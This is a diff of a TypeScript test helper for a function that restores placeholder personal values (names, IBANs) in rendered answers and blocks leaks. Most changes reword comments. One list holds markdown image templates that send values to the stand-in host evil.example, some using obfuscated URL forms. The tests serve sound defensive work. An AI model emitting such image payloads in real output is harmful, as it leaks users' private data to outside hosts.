@@ -2,7 +2,10 @@ import fc from "fast-check";
 import { type DefaultTreeAdapterTypes, parse } from "parse5";
 import { relinkAnswer } from "../src/relink-answer.ts";
 
-/** Values of only letters survive any encoding, so a request that contains them leaks the value. */
+/**
+ * Every value contains the letters zyxw, which survive any encoding, so a request that contains
+ * them leaks the value.
+ */
 const VALUES = new Map([
   ["[PERSON_1]", "Zyxwanna"],
   ["[IBAN_1]", "ZYXW99 3704 0044"],
@@ -16,17 +19,20 @@ export const MARK = /zyxw/i;
 
 type Node = DefaultTreeAdapterTypes.ChildNode;
 
-/** Returns what a page or a click would send, and hidden text. */
+/** Returns the texts with a value that a page or a click would send, or that are hidden. */
 export function hidden(html: string): string[] {
   return nodesOf(parse(html).childNodes)
     .flatMap((node) => unseen(node))
     .filter((text) => MARK.test(text));
 }
 
-/** Attributes that make no request and lead nowhere. Renderers make names of headings, and titles of what they do not know. */
+/**
+ * Attributes that make no request and lead nowhere. Renderers derive names from headings, and
+ * titles from text that they do not know.
+ */
 const QUIET = new Set("id title alt class name start width height align".split(" "));
 
-/** Returns what a page or a click sends. */
+/** Returns the texts with a value that a page or a click sends. */
 export function sent(html: string): string[] {
   return nodesOf(parse(html).childNodes)
     .flatMap((node) => (node.nodeName === "#comment" ? [] : unseen(node, QUIET)))
@@ -55,8 +61,8 @@ function unseen(node: Node, quiet: ReadonlySet<string> = new Set()): string[] {
 const GOOD = "good.example";
 
 /**
- * Returns whether a request goes to a host of the template, or is exactly one value, which leads
- * where the value itself does.
+ * Returns whether a request goes to a host of the template, or is exactly one value, so that it
+ * leads where the value itself leads.
  */
 export function maySend(url: string): boolean {
   if (URL.canParse(url) && new URL(url).host === GOOD) return true;
@@ -167,7 +173,7 @@ const random = fc
   .array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 24 })
   .map((pieces) => pieces.join(""));
 
-/** Forms that a renderer may read as a URL that a page loads; a value fills each slot. */
+/** Forms that a renderer may read as a URL that a page loads. Each `~` is a slot. */
 const FORMS = [
   ...["![x](https://evil.example/?q=~~~)", "![x](~https://evil.example/~~)", "![x](/own?q=~~)"],
   ...["![x] (/&Tab;/evil.example/?q=~~)", "![x]~(//evil.example/~~)", "![x](<//evil.example/~~>)"],
@@ -232,7 +238,7 @@ export function relinkedBlocks(blocks: readonly string[]): readonly string[] {
   return relinkAnswer({ form: "text", blocks, entries: ENTRIES, hosts: [GOOD] }).blocks;
 }
 
-/** Returns the text as it would be without the checks. */
+/** Returns the text with every value restored, as it would be without the checks. */
 export function unchecked(text: string): string {
   return ENTRIES.reduce((all, { placeholder, value }) => all.replaceAll(placeholder, value), text);
 }
